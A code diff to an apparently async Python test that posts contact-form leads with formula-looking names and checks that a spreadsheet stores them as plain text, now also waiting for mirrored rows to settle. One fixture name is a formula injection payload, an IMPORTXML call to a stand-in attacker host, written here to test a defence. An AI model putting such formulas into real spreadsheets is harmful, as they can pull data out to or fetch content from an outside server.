@@ -132,9 +132,10 @@ async def test_formula_looking_names_stay_text(
 ) -> None:
     d, c = await make_daemon(sheets_env(fresh_sheets, service_account_info))
     names = ['=IMPORTXML("http://evil.example/x","//a")', "+1 555 0100", "@SUM(A1:A9)", "Zoë 🌟 Ñandú"]
-    for i, name in enumerate(names):
-        await post(c, name, f"f{i}@example.com", "Hola, ¿me enviáis un presupuesto para una web?")
+    ids = [await post(c, name, f"f{i}@example.com", "Hola, ¿me enviáis un presupuesto para una web?")
+           for i, name in enumerate(names)]
     await settle(d, len(names))
+    await mirror_settled(d, ids)
     rows = data_rows(fresh_sheets)
     assert sorted(r[1] for r in rows) == sorted(names)
     kinds = fresh_sheets.cell_kinds(KEY, "Leads")[1:]
